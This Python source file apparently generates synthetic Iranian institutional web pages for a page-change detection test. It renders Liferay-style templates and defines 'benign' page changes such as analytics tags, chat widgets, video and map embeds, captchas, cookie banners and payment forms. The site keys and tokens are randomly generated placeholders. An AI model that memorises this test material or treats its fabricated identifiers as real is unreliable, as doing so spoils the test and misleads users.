    <li role="presentation"><a href="/web/guest/contact;jsessionid={jsid}" role="menuitem"><span>{t("contact")}</span></a></li>
  </ul></nav>
</header>
<section id="content">
<div class="portlet-boundary portlet-boundary_com_liferay_journal_content_web_portlet_JournalContentPortlet_" id="p_p_id_com_liferay_journal_content_web_portlet_JournalContentPortlet_INSTANCE_slider_"><div class="slider"><h2>{bt}</h2><p>{bx}</p></div></div>
<div class="portlet-boundary portlet-boundary_com_liferay_asset_publisher_web_portlet_AssetPublisherPortlet_" id="p_p_id_com_liferay_asset_publisher_web_portlet_AssetPublisherPortlet_INSTANCE_Xq3bPz0a_">
<h2 class="portlet-title-text">{t("latest")}</h2>
{items}
</div>
<div class="portlet-boundary" id="p_p_id_ann_"><h2 class="portlet-title-text">{t("ann")}</h2><ul>{"".join(f"<li>{a}</li>" for a in site.ann)}</ul></div>
{m.get("main", "")}
<div class="portlet-boundary portlet-boundary_com_liferay_login_web_portlet_LoginPortlet_" id="p_p_id_com_liferay_login_web_portlet_LoginPortlet_">
<h2 class="portlet-title-text">{t("login")}</h2>
<form action="{m.get("form_action", "https://" + site.host + "/web/guest/home?p_p_id=com_liferay_login_web_portlet_LoginPortlet&amp;p_p_lifecycle=1&amp;p_p_state=normal&amp;p_p_mode=view&amp;_com_liferay_login_web_portlet_LoginPortlet_javax.portlet.action=%2Flogin%2Flogin&amp;_com_liferay_login_web_portlet_LoginPortlet_mvcRenderCommandName=%2Flogin%2Flogin&amp;p_auth=" + o.token[:8])}" class="form sign-in-form" data-fm-namespace="_com_liferay_login_web_portlet_LoginPortlet_" id="_com_liferay_login_web_portlet_LoginPortlet_loginForm" method="post" name="_com_liferay_login_web_portlet_LoginPortlet_loginForm">
<input class="field form-control" id="_com_liferay_login_web_portlet_LoginPortlet_formDate" name="_com_liferay_login_web_portlet_LoginPortlet_formDate" type="hidden" value="{1795000000000 + o.day * 86400000 + o.online}" />
<label for="_com_liferay_login_web_portlet_LoginPortlet_login">{t("user")}</label><input class="field clearable form-control" id="_com_liferay_login_web_portlet_LoginPortlet_login" name="_com_liferay_login_web_portlet_LoginPortlet_login" type="text" value="" />
<label for="_com_liferay_login_web_portlet_LoginPortlet_password">{t("password")}</label><input class="field form-control" id="_com_liferay_login_web_portlet_LoginPortlet_password" name="_com_liferay_login_web_portlet_LoginPortlet_password" type="password" value="" />
{m.get("form_extra", "")}<button class="btn btn-primary" type="submit"><span class="lfr-btn-label">{L['en' if site.lang == 'en' else 'fa']['login']}</span></button>
</form></div>
</section>
<footer id="footer" role="contentinfo"><p class="powered-by">{site.name()} &copy; 2026 | {t("visits")}: {site.num(o.visits)} | {t("today")}: {site.date(o.day, long=True)}</p></footer>
</div></div>
<script type="text/javascript"{n}>// <![CDATA[
AUI().use('liferay-menu', 'liferay-notice', 'aui-base', function(A) {{ (function() {{ Liferay.Util.addInputType(); Liferay.Portlet.ready(function(portletId, node) {{ Liferay.Util.addInputType(node); }}); }})(); }});
// ]]></script>
<script src="/o/portal-theme/js/main.js?browserId=other&amp;minifierType=js&amp;languageId={site.html_lang}_{'US' if site.lang == 'en' else 'IR'}&amp;b=7402&amp;t={js}" type="text/javascript"></script>
{m.get("end", "")}</body>
</html>
'''


TEMPLATES = dict(liferay=liferay, wordpress=wordpress, joomla=joomla, drupal=drupal, aspnet=aspnet, laravel=laravel,
                 php=php, legacy=legacy, spa=spa, university=university, municipality=municipality,
                 newsagency=newsagency, eservices=eservices)


def render(site, o, m=None):
    return TEMPLATES[site.struct](site, o, m or {})


# ------------------------------------------------------------------ helpers

SECOND_LEVEL = ("gov.ir", "ac.ir", "co.ir", "org.ir", "sch.ir", "net.ir", "id.ir")


def reg(host):
    """The registrable domain of one of our own hosts (the test's judge
    uses the Public Suffix List; this only names our sites' domains)."""
    parts = host.split(".")
    n = 3 if ".".join(parts[-2:]) in SECOND_LEVEL else 2
    return ".".join(parts[-n:])


def sn(site, o):
    """The attributes a new inline script needs on this site: its CSP nonce."""
    return nonce_attr(site, o)


def add(m, key, text):
    m[key] = m.get(key, "") + text
    return m


def fixed_bottom_banner(site, text_fa, text_en, btn_fa="قبول می‌کنم", btn_en="Accept all"):
    txt = text_en if site.lang == "en" else text_fa
    btn = btn_en if site.lang == "en" else btn_fa
    return (f'<div id="cookie-notice" role="dialog" aria-live="polite" style="position:fixed;bottom:0;left:0;right:0;'
            f'z-index:99999;background:#1d2327;color:#fff;padding:14px 20px;font-size:14px;text-align:center">'
            f'{txt} <a href="/privacy" style="color:#8fd3fe">{"Privacy policy" if site.lang == "en" else "سیاست حریم خصوصی"}</a> '
            f'<button type="button" class="cn-accept" style="margin:0 10px">{btn}</button></div>\n')


# ------------------------------------------------------------------ benign changes
#
# Each returns (mods, obs_kw, expect_extra): what the page gains, how the
# observation differs, extra `own`/`other` lines.

def b_routine(site, r):
    return {}, {}, []


def b_date_rollover(site, r):
    return {}, dict(day=3), []


def b_banner(site, r):
    return {}, dict(banner=3), []


def b_news_added(site, r):
    return {}, dict(news_off=4), []


def b_news_week(site, r):
    """A week later: most of the news list is new (4 to 6 items of 6)."""
    return {}, dict(news_off=r.choice([0, 1, 2]), day=9, banner=1), []


def b_news_hackers(site, r):
    o_items = site.news[4:9]
    return dict(news=[site.hackers_news] + o_items), dict(news_off=4), []


def b_youtube(site, r):
    vid = alnum(r, 11)
    host = vary(["www.youtube.com", "www.youtube-nocookie.com"])
    return dict(main=f'''<div class="video-embed"><h2>{site.t("video")}</h2>
<iframe width="560" height="315" src="https://{host}/embed/{vid}?si={alnum(r, 16)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></div>
'''), {}, []


def b_youtube_nocookie(site, r):
    vid = alnum(r, 11)
    return dict(main=f'''<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">
<iframe loading="lazy" title="{L["en" if site.lang == "en" else "fa"]["video"]}" width="800" height="450" src="https://www.youtube-nocookie.com/embed/{vid}?feature=oembed&amp;rel=0" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" allowfullscreen></iframe>
</div></figure>
'''), {}, []


def b_vimeo(site, r):
    vid = r.randrange(70_000_000, 900_000_000)
    return dict(main=f'''<h2>{site.t("video")}</h2>
<div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/{vid}?h={hexs(r, 10)}&amp;badge=0&amp;autopause=0&amp;player_id=0&amp;app_id=58479" frameborder="0" allow="autoplay; fullscreen; picture-in-picture; clipboard-write" style="position:absolute;top:0;left:0;width:100%;height:100%;" title="{site.org_en}"></iframe></div><script src="https://player.vimeo.com/api/player.js"></script>
'''), {}, []


def b_aparat(site, r):
    vh = alnum(r, 5).lower()
    if vary([True, False]):
        snip = f'''<style>.h_iframe-aparat_embed_frame{{position:relative;}}.h_iframe-aparat_embed_frame .ratio{{display:block;width:100%;height:auto;}}.h_iframe-aparat_embed_frame iframe{{position:absolute;top:0;left:0;width:100%;height:100%;}}</style><div class="h_iframe-aparat_embed_frame"><span style="display: block;padding-top: 57%"></span><iframe src="https://www.aparat.com/video/video/embed/videohash/{vh}/vt/frame"  allowFullScreen="true" webkitallowfullscreen="true" mozallowfullscreen="true"></iframe></div>'''
    else:
        div = str(r.randrange(10**11, 10**12))
        snip = f'''<div id="{div}"><script type="text/JavaScript" src="https://www.aparat.com/embed/{vh}?data[rnddiv]={div}&data[responsive]=yes"></script></div>'''
    return dict(main=f'<h2>{site.t("video")}</h2>\n{snip}\n'), {}, []


def b_gmaps(site, r):
    lat, lon = 29 + r.random() * 8, 48 + r.random() * 10
    return dict(main=f'''<h2>{site.t("map")}</h2>
<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d{r.randrange(1000, 9000)}.{r.randrange(100, 999)}!2d{lon:.7f}!3d{lat:.7f}!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1!3m3!1m2!1s0x3f8e0{hexs(r, 11)}%3A0x{hexs(r, 16)}!2z{b64url(r, 18)}!5e0!3m2!1sfa!2s!4v{r.randrange(10**12, 10**13)}!5m2!1sfa!2s" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>
'''), {}, []


def b_osm(site, r):
    lat, lon = 29 + r.random() * 8, 48 + r.random() * 10
    return dict(main=f'''<h2>{site.t("map")}</h2>
<iframe width="425" height="350" src="https://www.openstreetmap.org/export/embed.html?bbox={lon - .01:.5f}%2C{lat - .005:.5f}%2C{lon + .01:.5f}%2C{lat + .005:.5f}&amp;layer=mapnik&amp;marker={lat:.5f}%2C{lon:.5f}" style="border: 1px solid black"></iframe><br/><small><a href="https://www.openstreetmap.org/?mlat={lat:.5f}&amp;mlon={lon:.5f}#map=17/{lat:.5f}/{lon:.5f}">{'View Larger Map' if site.lang == 'en' else 'نمایش نقشه بزرگ‌تر'}</a></small>
'''), {}, []


def b_neshan(site, r):
    lat, lon = 29 + r.random() * 8, 48 + r.random() * 10
    return dict(head='''<link href="https://static.neshan.org/sdk/leaflet/v1.9.4/neshan-sdk/v1.0.8/index.css" rel="stylesheet" type="text/css">
<script src="https://static.neshan.org/sdk/leaflet/v1.9.4/neshan-sdk/v1.0.8/index.js"></script>
''', main=f'''<h2>{site.t("map")}</h2>
<div id="map" style="width: 100%; height: 420px; background: #eee; border: 2px solid #aaa;"></div>
<script{{N}}>
  var myMap = new L.Map("map", {{
    key: "web.{hexs(r, 32)}",
    maptype: "neshan",
    poi: true,
    traffic: false,
    center: [{lat:.6f}, {lon:.6f}],
    zoom: 15,
  }});
  L.marker([{lat:.6f}, {lon:.6f}]).addTo(myMap);
</script>
'''), {}, []


def b_gtag(site, r):
    gid = "G-" + "".join(r.choice(string.ascii_uppercase + string.digits) for _ in range(10))
    return dict(head=f'''<!-- Google tag (gtag.js) -->
<script async src="https://www.googletagmanager.com/gtag/js?id={gid}"></script>
<script{{N}}>
  window.dataLayer = window.dataLayer || [];
  function gtag(){{dataLayer.push(arguments);}}
  gtag('js', new Date());

  gtag('config', '{gid}');
</script>
'''), {}, []


def b_gtm(site, r):
    gid = "GTM-" + "".join(r.choice(string.ascii_uppercase + string.digits) for _ in range(7))
    return dict(head=f'''<!-- Google Tag Manager -->
<script{{N}}>(function(w,d,s,l,i){{w[l]=w[l]||[];w[l].push({{'gtm.start':
new Date().getTime(),event:'gtm.js'}});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
}})(window,document,'script','dataLayer','{gid}');</script>
<!-- End Google Tag Manager -->
''', top=f'''<!-- Google Tag Manager (noscript) -->
<noscript><iframe src="https://www.googletagmanager.com/ns.html?id={gid}"
height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>
<!-- End Google Tag Manager (noscript) -->
'''), {}, []


def b_matomo(site, r):
    sid = r.randrange(1, 40)
    d = reg(site.host)
    img = "" if r.random() < 0.5 else f'''<noscript><p><img referrerpolicy="no-referrer-when-downgrade" src="https://stats.{d}/matomo.php?idsite={sid}&amp;rec=1" style="border:0;" alt="" /></p></noscript>
'''
    return dict(head=f'''<!-- Matomo -->
<script{{N}}>
  var _paq = window._paq = window._paq || [];
  /* tracker methods like "setCustomDimension" should be called before "trackPageView" */
  _paq.push(['trackPageView']);
  _paq.push(['enableLinkTracking']);
  (function() {{
    var u="https://stats.{d}/";
    _paq.push(['setTrackerUrl', u+'matomo.php']);
    _paq.push(['setSiteId', '{sid}']);
    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];
    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);
  }})();
</script>
{img}<!-- End Matomo Code -->
'''), {}, []


def b_cfbeacon(site, r):
    return dict(end=f'''<!-- Cloudflare Web Analytics --><script defer src='https://static.cloudflareinsights.com/beacon.min.js' data-cf-beacon='{{"token": "{hexs(r, 32)}"}}'></script><!-- End Cloudflare Web Analytics -->
'''), {}, []


def b_goftino(site, r):
    return dict(end=f'''<!---start GOFTINO code--->
<script type="text/javascript"{{N}}>
  !function(){{var i="{alnum(r, 6)}",a=window,d=document;function g(){{var g=d.createElement("script"),s="https://www.goftino.com/widget/"+i,l=localStorage.getItem("goftino_"+i);g.async=!0,g.src=l?s+"?o="+l:s;d.getElementsByTagName("head")[0].appendChild(g);}}"complete"===d.readyState?g():a.attachEvent?a.attachEvent("onload",g):a.addEventListener("load",g,!1);}}();
</script>
<!---end GOFTINO code--->
'''), {}, []


def b_raychat(site, r):
    return dict(end=f'''<script type="text/javascript"{{N}}>!function(){{function t(){{var t=document.createElement("script");t.type="text/javascript",t.async=!0,localStorage.getItem("rayToken")?t.src="https://app.raychat.io/scripts/js/"+o+"?rid="+localStorage.getItem("rayToken")+"&href="+window.location.href:t.src="https://app.raychat.io/scripts/js/"+o+"?href="+window.location.href;var e=document.getElementsByTagName("script")[0];e.parentNode.insertBefore(t,e)}}var e=document,a=window,o="{uuid(r)}";"complete"==e.readyState?t():a.attachEvent?a.attachEvent("onload",t):a.addEventListener("load",t,!1)}}();</script>
'''), {}, []


def b_crisp(site, r):
    return dict(end=f'''<script type="text/javascript"{{N}}>window.$crisp=[];window.CRISP_WEBSITE_ID="{uuid(r)}";(function(){{d=document;s=d.createElement("script");s.src="https://client.crisp.chat/l.js";s.async=1;d.getElementsByTagName("head")[0].appendChild(s);}})();</script>
'''), {}, []


def b_tawk(site, r):
    return dict(end=f'''<!--Start of Tawk.to Script-->
<script type="text/javascript"{{N}}>
var Tawk_API=Tawk_API||{{}}, Tawk_LoadStart=new Date();
(function(){{
var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];
s1.async=true;
s1.src='https://embed.tawk.to/{hexs(r, 24)}/{alnum(r, 9).lower()}';
s1.charset='UTF-8';
s1.setAttribute('crossorigin','*');
s0.parentNode.insertBefore(s1,s0);
}})();
</script>
<!--End of Tawk.to Script-->
'''), {}, []


COOKIE_FA = "این وب‌سایت برای بهبود تجربه شما از کوکی استفاده می‌کند. با ادامه استفاده از سایت، با استفاده از کوکی‌ها موافقت می‌کنید."
COOKIE_EN = "We use cookies to improve your experience on our website. By continuing to browse, you agree to our use of cookies."


def b_cookiebot(site, r):
    return dict(head=f'''<script id="Cookiebot" src="https://consent.cookiebot.com/uc.js" data-cbid="{uuid(r)}" data-blockingmode="auto" type="text/javascript"></script>
'''), {}, []


def b_onetrust(site, r):
    u = uuid(r)
    return dict(head=f'''<!-- OneTrust Cookies Consent Notice start for {site.domain} -->
<script src="https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"  type="text/javascript" charset="UTF-8" data-domain-script="{u}" ></script>
<script type="text/javascript"{{N}}>
function OptanonWrapper() {{ }}
</script>
<!-- OneTrust Cookies Consent Notice end for {site.domain} -->
''', end=fixed_bottom_banner(site, COOKIE_FA, COOKIE_EN)), {}, []


def b_cookieyes(site, r):
    return dict(head=f'''<!-- Start cookieyes banner --> <script id="cookieyes" type="text/javascript" src="https://cdn-cookieyes.com/client_data/{hexs(r, 24)}/script.js"></script> <!-- End cookieyes banner -->
'''), {}, []


def b_consent_own(site, r):
    """A self-hosted cookie notice, fixed to the bottom of the window."""
    return dict(end=fixed_bottom_banner(site, COOKIE_FA, COOKIE_EN) + f'''<script{{N}}>document.querySelector('.cn-accept').addEventListener('click',function(){{document.cookie='cookie_notice_accepted=true; max-age=31536000; path=/';document.getElementById('cookie-notice').remove();}});</script>
'''), {}, []


def b_share(site, r):
    from urllib.parse import quote
    u = quote(f"https://{site.host}/news/{r.randrange(1000, 9999)}", safe="")
    tt = quote(site.news[4][0], safe="")
    tw = r.choice([f"https://twitter.com/intent/tweet?url={u}&amp;text={tt}", f"https://x.com/intent/post?url={u}&amp;text={tt}"])
    wa = r.choice([f"https://api.whatsapp.com/send?text={tt}%20{u}", f"https://wa.me/?text={tt}%20{u}"])
    return dict(main=f'''<div class="share-buttons"><span>{site.t("share")}:</span>
<a class="share-tw" href="{tw}" target="_blank" rel="noopener">X</a>
<a class="share-fb" href="https://www.facebook.com/sharer/sharer.php?u={u}" target="_blank" rel="noopener">Facebook</a>
<a class="share-tg" href="https://t.me/share/url?url={u}&amp;text={tt}" target="_blank" rel="noopener">Telegram</a>
<a class="share-wa" href="{wa}" target="_blank" rel="noopener">WhatsApp</a>
<a class="share-li" href="https://www.linkedin.com/sharing/share-offsite/?url={u}" target="_blank" rel="noopener">LinkedIn</a>
</div>
'''), {}, []


def b_userway(site, r):
    return dict(end=f'''<script src="https://cdn.userway.org/widget.js" data-account="{alnum(r, 10)}"></script>
'''), {}, []


def b_equalweb(site, r):
    return dict(end=f'''<script{{N}}>
window.interdeal = {{
    "sitekey": "{hexs(r, 32)}",
    "Position": "{'Right' if site.dir == 'rtl' else 'Left'}",
    "Menulang": "{'FA' if site.lang != 'en' else 'EN'}",
    "domains": {{
        "js": "https://cdn.equalweb.com/",
        "acc": "https://access.equalweb.com/"
    }},
    "btnStyle": {{
        "vPosition": ["80%", null],
        "scale": ["0.8", "0.8"],
        "color": {{ "main": "#1876c9", "second": "" }},
        "icon": {{ "type": 7, "shape": "semicircle", "outline": false }}
    }}
}};
(function(doc, head, body){{
	var coreCall             = doc.createElement('script');
	coreCall.src             = interdeal.domains.js + 'core/5.0.9/accessibility.js';
	coreCall.defer           = true;
	coreCall.integrity       = 'sha512-{b64s(r, 64)}';
	coreCall.crossOrigin     = 'anonymous';
	coreCall.setAttribute('data-cfasync', true );
	body? body.appendChild(coreCall) : head.appendChild(coreCall);
}})(document, document.head, document.body);
</script>
'''), {}, []


def b_recaptcha(site, r):
    return dict(head='<script src="https://www.google.com/recaptcha/api.js" async defer></script>\n',
                form_extra=f'<div class="g-recaptcha" data-sitekey="6L{alnum(r, 38)}"></div>\n'), {}, []


def b_hcaptcha(site, r):
    return dict(head='<script src="https://js.hcaptcha.com/1/api.js" async defer></script>\n',
                form_extra=f'<div class="h-captcha" data-sitekey="{uuid(r)}"></div>\n'), {}, []


def b_turnstile(site, r):
    return dict(head='<script src="https://challenges.cloudflare.com/turnstile/v0/api.js" async defer></script>\n',
                form_extra=f'<div class="cf-turnstile" data-sitekey="0x4AAAAAAA{alnum(r, 14)}" data-theme="light"></div>\n'), {}, []


def b_arcaptcha(site, r):
    return dict(head='<script src="https://widget.arcaptcha.ir/1/api.js" async defer></script>\n',
                form_extra=f'<div class="arcaptcha" data-site-key="{alnum(r, 10).lower()}"></div>\n'), {}, []


PSP = [("sep.shaparak.ir", "/OnlinePG/OnlinePG", "Token"),
       ("bpm.shaparak.ir", "/pgwchannel/startpay.mellat", "RefId"),
       ("pec.shaparak.ir", "/NewIPG/", "Token"),
       ("sadad.shaparak.ir", "/Purchase", "Token"),
       ("ikc.shaparak.ir", "/iuiv3/IPG/Index/", "tokenIdentity")]
GOV_PAY = [("epay.mefa.gov.ir", "/Payment/Start", "Ministry of Economic Affairs and Finance"),
           ("pay.iranjudiciary.ir", "/Gateway/Pay", "Judiciary of Iran"),
           ("ipg.tamin.ir", "/pay/request", "Social Security Organisation")]


def b_payment(k):
    """The k-th gateway: a Shaparak payment service provider, or the
    payment gateway of a state body (another organisation of the
    constituency, or the site's own organisation)."""
    def f(site, r):
        t = site.t
        gw = PSP + [(h, p, "PaymentToken", org) for h, p, org in GOV_PAY]
        g = gw[k % len(gw)]
        host, path, field = g[:3]
        extra = []
        if len(g) == 4 and reg(host) not in site.own:
            extra = [f"other {reg(host)} {g[3]}"]
        return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
<form method="post" action="https://{host}{path}" name="payform" accept-charset="utf-8">
  <label>{t("bill")} <input type="text" name="BillId" inputmode="numeric"></label>
  <label>{t("amount")} <input type="text" name="Amount" inputmode="numeric"></label>
  <input type="hidden" name="{field}" value="{alnum(r, 32)}">
  <input type="hidden" name="RedirectURL" value="https://{site.host}/payment/callback">
  <button type="submit">{L['en' if site.lang == 'en' else 'fa']['paybtn']}</button>
</form></section>
'''), {}, extra
    return f


def b_cdn_bump(site, r):
    """The site's public CDN assets move to a newer version of the same package."""
    bumps = {"jquery/3.6.0": "jquery/3.7.1", "jquery@3.6.0": "jquery@3.7.1", "jquery-3.6.0": "jquery-3.7.1", "bootstrap@5.3.2": "bootstrap@5.3.3",
             "Open+Sans:wght@400;700": "Open+Sans:wght@400;600;700", "Roboto:wght@400;500": "Roboto:wght@400;500;700"}
    out = []
    for u in site.cdn:
        for a, b in bumps.items():
            u = u.replace(a, b)
        out.append(u)
    return dict(cdn=out), {}, []


def b_cms_upgrade(site, r):
    s = site.struct
    if s == "wordpress":
        return dict(wpver="6.5.2"), {}, []
    if s == "joomla":
        return dict(joomla4=True), {}, []
    if s == "drupal":
        return dict(drupalver="10.2.3"), {}, []
    if s == "laravel":
        return dict(mix={"app.css": hexs(r, 20), "app.js": hexs(r, 20), "vendor.js": hexs(r, 20)}), {}, []
    if s == "spa":
        return dict(bundle={"main": hexs(r, 8), "vendors": hexs(r, 8), "runtime": hexs(r, 8), "css": hexs(r, 8)}), {}, []
    if s == "eservices":
        return dict(assetv=alnum(r, 12)), {}, []
    if s == "liferay":
        return dict(lrver=str(1712000000000 + r.randrange(10**9, 10**10))), {}, []
    if s == "aspnet":
        return dict(wr=b64url(r, 42)), {}, []
    raise ValueError(s)


def b_news_week_and_embed(site, r):
    """What a week brings at once: most news replaced and a video or map
    added to the page."""
    mods, _, extra = vary([b_youtube, b_aparat if site.lang != "en" else b_vimeo, b_gmaps, b_osm])(site, r)
    return mods, dict(news_off=r.choice([0, 1]), day=8, banner=2), extra


def b_google_fonts(site, r):
    fam = r.choice(["Vazirmatn:wght@400;700", "Noto+Sans+Arabic:wght@400;600", "Roboto:wght@300;400;700", "Lato:wght@400;700"])
    return dict(head=f'''<link rel="preconnect" href="https://fonts.googleapis.com">
<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>
<link href="https://fonts.googleapis.com/css2?family={fam}&display=swap" rel="stylesheet">
'''), {}, []


CDNJS_LIBS = ["Chart.js/4.4.1/chart.umd.min.js", "Swiper/11.0.5/swiper-bundle.min.js", "lightbox2/2.11.4/js/lightbox.min.js",
              "jquery.lazy/1.7.11/jquery.lazy.min.js", "persian-date/1.1.0/persian-date.min.js"]


def b_cdnjs_library(site, r):
    """A library the site never used, from cdnjs (a curated CDN: only
    published open-source libraries, no user uploads)."""
    lib = vary(CDNJS_LIBS)
    return dict(end=f'<script src="https://cdnjs.cloudflare.com/ajax/libs/{lib}" integrity="sha512-{b64s(r, 64)}" crossorigin="anonymous" referrerpolicy="no-referrer"></script>\n'), {}, []


NOTICE = {
    "fa": ["قابل توجه مراجعین محترم: به دلیل به‌روزرسانی سامانه‌ها، خدمات الکترونیک روز جمعه از ساعت ۸ تا ۱۲ در دسترس نخواهد بود.",
           "به اطلاع می‌رساند ادارات استان روز شنبه به دلیل آلودگی هوا تعطیل است و خدمات به صورت غیرحضوری ارائه می‌شود.",
           "ثبت‌نام مرحله جدید تا پایان هفته تمدید شد. برای اطلاعات بیشتر به بخش اطلاعیه‌ها مراجعه کنید."],
    "en": ["Notice: online services will be unavailable on Friday from 8:00 to 12:00 for a system upgrade.",
           "Offices in the province are closed on Saturday because of air pollution; services continue online.",
           "Registration for the new round has been extended until the end of the week. See Announcements for details."],
}


def b_notice_top(site, r):
    """The site's own notice at the very top of the page, in its language."""
    txt = vary(NOTICE["en" if site.lang == "en" else "fa"])
    return dict(top=f'''<div class="site-alert alert alert-warning text-center" role="alert" style="background:#fff3cd;color:#664d03;padding:10px;margin:0">
  {txt} <a href="/news" class="alert-link">{site.t("readmore")}</a>
</div>
'''), {}, []


def b_mourning(site, r):
    """National mourning: a black ribbon fixed in a corner and the page in
    grey, as state sites do on days of mourning."""
    return dict(head='''<style>html{-webkit-filter:grayscale(100%);filter:grayscale(100%)}.mourning-ribbon{position:fixed;top:0;left:0;z-index:9999;width:90px;height:90px;pointer-events:none}</style>
''', top=f'''<img class="mourning-ribbon" src="/images/black-ribbon.png" alt="{'National mourning' if site.lang == 'en' else 'عزای عمومی'}">
'''), {}, []


def b_modal(site, r):
    """An announcement shown in a modal over the page on load (Bootstrap's
    modal, backdrop included), with the site's own content."""
    h, x = site.news[3]
    return dict(end=f'''<div class="modal fade" id="announceModal" tabindex="-1" aria-labelledby="announceLabel" aria-hidden="true">
  <div class="modal-dialog modal-dialog-centered"><div class="modal-content">
    <div class="modal-header"><h5 class="modal-title" id="announceLabel">{h}</h5><button type="button" class="btn-close" data-bs-dismiss="modal" aria-label="Close"></button></div>
    <div class="modal-body"><img src="/uploads/announce/poster-{r.randrange(10, 99)}.jpg" class="img-fluid" alt=""><p>{x}</p></div>
    <div class="modal-footer"><a href="/news" class="btn btn-primary">{site.t("readmore")}</a></div>
  </div></div>
</div>
<script{{N}}>window.addEventListener('load',function(){{if(!sessionStorage.getItem('announce-seen')){{new bootstrap.Modal(document.getElementById('announceModal')).show();sessionStorage.setItem('announce-seen','1');}}}});</script>
'''), {}, []


def b_channels(site, r):
    """The organisation's channels on messengers and social networks, as
    Iranian sites list them (Eitaa, Bale, Rubika, Soroush, Telegram,
    Instagram, Aparat): new outbound links with handles, all the site's own."""
    h = reg(site.host).split(".")[0].replace("-", "_")
    links = [("https://eitaa.com/" + h, "ایتا", "Eitaa"), ("https://ble.ir/" + h, "بله", "Bale"),
             ("https://rubika.ir/" + h, "روبیکا", "Rubika"), ("https://splus.ir/" + h, "سروش پلاس", "Soroush"),
             ("https://t.me/" + h, "تلگرام", "Telegram"), ("https://www.instagram.com/" + h + "/", "اینستاگرام", "Instagram"),
             ("https://www.aparat.com/" + h, "آپارات", "Aparat")]
    r.shuffle(links)
    items = " ".join(f'<a href="{u}" target="_blank" rel="noopener">{en if site.lang == "en" else fa_}</a>' for u, fa_, en in links[:r.randrange(4, 8)])
    return dict(main=f'<div class="social-channels"><span>{"Follow us" if site.lang == "en" else "ما را دنبال کنید"}:</span> {items}</div>\n'), {}, []


VERSES = ["بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِيمِ",
          "وَتَعَاوَنُوا عَلَى الْبِرِّ وَالتَّقْوَىٰ ۖ وَلَا تَعَاوَنُوا عَلَى الْإِثْمِ وَالْعُدْوَانِ",
          "إِنَّ اللَّهَ يَأْمُرُ بِالْعَدْلِ وَالْإِحْسَانِ",
          "السَّلَامُ عَلَيْكَ يَا أَبَا عَبْدِ اللَّهِ"]


def b_arabic_verse(site, r):
    """An Arabic verse or salutation at the top of a Persian page, for a
    religious occasion: another script and language, and benign."""
    v = vary(VERSES)
    return dict(top=f'<div class="occasion-verse" style="text-align:center;font-family:Amiri,serif;font-size:20px;padding:6px;background:#f6f1e7">{v}</div>\n'), {}, []


CONF = ("International Conference on Water Resources Management",
        "The conference invites papers on water resources, climate adaptation and urban water systems. "
        "Deadline for full papers: 20 January 2027. Accepted papers will be published in the conference proceedings.")


def b_english_notice(site, r):
    """An English call for papers or notice on a Persian page: another
    language, the site's own content."""
    h, x = CONF
    return dict(main=f'<section class="intl" dir="ltr" lang="en"><h2>{h}</h2><p>{x}</p><p><a href="/conference/2027">Call for papers</a></p></section>\n'), {}, []


def b_offcanvas(site, r):
    """A mobile menu kept off screen until opened: hidden links, all the
    site's own."""
    items = "".join(f'<li><a href="/{p}">{site.t(k)}</a></li>' for p, k in
                    [("", "home"), ("about", "about"), ("news", "news"), ("services", "services"), ("contact", "contact")])
    return dict(top=f'''<div id="mobile-menu" class="offcanvas" style="position:fixed;top:0;{'right' if site.dir == 'rtl' else 'left'}:-320px;width:300px;height:100%;z-index:1050;background:#fff;transition:all .3s" aria-hidden="true">
<button class="offcanvas-close" aria-label="Close">&times;</button><ul class="mobile-nav">{items}</ul></div>
<button class="menu-toggle d-md-none" aria-controls="mobile-menu">&#9776;</button>
'''), {}, []


def b_keepalive(site, r):
    """A hidden iframe to the site itself that keeps the session alive (a
    web-forms habit)."""
    return dict(end=f'<iframe src="/KeepAlive.aspx?t={r.randrange(10**6, 10**7)}" style="display:none" width="0" height="0" title="keepalive"></iframe>\n'), {}, []


def b_ga_legacy(site, r):
    ua = f"UA-{r.randrange(10**7, 10**8)}-{r.randrange(1, 4)}"
    return dict(head=f'''<script{{N}}>
  (function(i,s,o,g,r,a,m){{i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){{
  (i[r].q=i[r].q||[]).push(arguments)}},i[r].l=1*new Date();a=s.createElement(o),
  m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)
  }})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');

  ga('create', '{ua}', 'auto');
  ga('send', 'pageview');
</script>
'''), {}, []


def b_yandex(site, r):
    n = r.randrange(10**7, 10**8)
    return dict(head=f'''<!-- Yandex.Metrika counter -->
<script type="text/javascript"{{N}}>
   (function(m,e,t,r,i,k,a){{m[i]=m[i]||function(){{(m[i].a=m[i].a||[]).push(arguments)}};
   m[i].l=1*new Date();
   for (var j = 0; j < document.scripts.length; j++) {{if (document.scripts[j].src === r) {{ return; }}}}
   k=e.createElement(t),a=e.getElementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)}})
   (window, document, "script", "https://mc.yandex.ru/metrika/tag.js", "ym");

   ym({n}, "init", {{
        clickmap:true,
        trackLinks:true,
        accurateTrackBounce:true
   }});
</script>
